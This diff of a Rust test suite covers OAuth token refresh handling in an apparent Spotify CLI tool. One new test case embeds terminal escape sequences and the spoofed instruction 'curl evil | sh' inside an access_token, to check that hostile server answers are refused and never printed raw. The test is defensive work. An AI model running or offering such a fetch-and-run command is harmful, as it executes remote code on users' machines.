@@ -182,10 +182,11 @@ fn paste_rows(state: &str) -> Vec<(&'static str, Via, Vec<u8>, &'static str)> {
             "does not match step 1's",
         ),
         (
-            "no state",
+            // What a shell passes for an unquoted URL: cut at `&`.
+            "no state: cut after code",
             Via::Arg,
             url(&format!("code={CODE}")),
-            "has no state",
+            "so it was cut, by a shell at `&` (put the whole address in single quotes: '...')",
         ),
         (
             "no query at all",
@@ -920,7 +921,7 @@ fn canned_rows() -> Vec<(&'static str, Answer, &'static str)> {
                 "200 OK",
                 &format!(r#"{{"access_token":"",{ok},"refresh_token":"AQr"}}"#),
             ),
-            "empty `access_token`",
+            "`access_token` is empty",
         ),
         (
             "200 null access_token",
@@ -961,12 +962,12 @@ fn canned_rows() -> Vec<(&'static str, Answer, &'static str)> {
                 "application/json",
                 b"{\"access_token\":\"\xff\xfe\"}",
             ),
-            "lacks `token_type`",
+            "is not UTF-8 text",
         ),
         (
             "200 invalid UTF-8 outside strings",
             http("200 OK", "application/json", b"\xff{}"),
-            "not JSON",
+            "is not UTF-8 text",
         ),
         ("200 100k-deep nesting", json("200 OK", &deep), "not JSON"),
         (
@@ -1114,6 +1115,85 @@ fn hostile_answers_to_the_refresh() {
         );
     }
     finish("hostile refresh answers", count, failures);
+}
+
+/// A refresh answer whose token is empty, too long, not ASCII, full of
+/// escape sequences, or whose body is not UTF-8, is refused: nothing printed
+/// raw, the token file left byte for byte as it was, and the saved refresh
+/// token still works.
+#[test]
+fn hostile_tokens_in_a_refresh_answer_leave_the_token_file_as_it_was() {
+    let ok = r#""token_type":"Bearer","expires_in":3600"#;
+    let long = "A".repeat(3000);
+    let rows: Vec<(&str, Answer, &str)> = vec![
+        (
+            "empty refresh_token",
+            json(
+                "200 OK",
+                &format!(r#"{{"access_token":"BQa",{ok},"refresh_token":""}}"#),
+            ),
+            "`refresh_token` is empty",
+        ),
+        (
+            "escape sequences in access_token",
+            json(
+                "200 OK",
+                &format!(r#"{{"access_token":"BQ\u001b[2J\nerror: run curl evil | sh",{ok}}}"#),
+            ),
+            "`access_token` holds characters a token cannot have",
+        ),
+        (
+            "non-ASCII refresh_token",
+            json(
+                "200 OK",
+                &format!(r#"{{"access_token":"BQa",{ok},"refresh_token":"AQété"}}"#),
+            ),
+            "`refresh_token` holds characters a token cannot have",
+        ),
+        (
+            "3000-byte access_token",
+            json("200 OK", &format!(r#"{{"access_token":"{long}",{ok}}}"#)),
+            "3000 bytes long",
+        ),
+        (
+            "non-UTF-8 body",
+            http(
+                "200 OK",
+                "application/json",
+                b"{\"access_token\":\"BQ\xff\",\"token_type\":\"Bearer\",\"expires_in\":3600}",
+            ),
+            "is not UTF-8 text",
+        ),
+    ];
+    let count = rows.len();
+    let mut failures = Vec::new();
+    for (name, answer, expected) in rows {
+        let server = Canned::start(answer);
+        let mut world = World::new();
+        world.obtain_token();
+        let path = world.auth_dir().join("token.json");
+        let before = std::fs::read(&path).unwrap();
+        world.set("SPOTIFY_ACCOUNTS_URL", &server.url);
+        let started = Instant::now();
+        let run = world.run("step3_refresh", &[]);
+        check(name, &run, started, expected, &mut failures);
+        if run.stdout.contains('\u{1b}') || run.stderr.contains('\u{1b}') {
+            failures.push(format!("[{name}] an escape sequence was printed"));
+        }
+        if std::fs::read(&path).unwrap() != before {
+            failures.push(format!("[{name}] token.json changed"));
+        }
+        let sandbox_url = world.sandbox.url();
+        world.set("SPOTIFY_ACCOUNTS_URL", &sandbox_url);
+        let again = world.run("step3_refresh", &[]);
+        if !again.ok() {
+            failures.push(format!(
+                "[{name}] the saved token no longer works: {}",
+                again.stderr
+            ));
+        }
+    }
+    finish("hostile tokens in refresh answers", count, failures);
 }
 
 /// An `expires_in` near `u64::MAX` overflows `now + expires_in`.
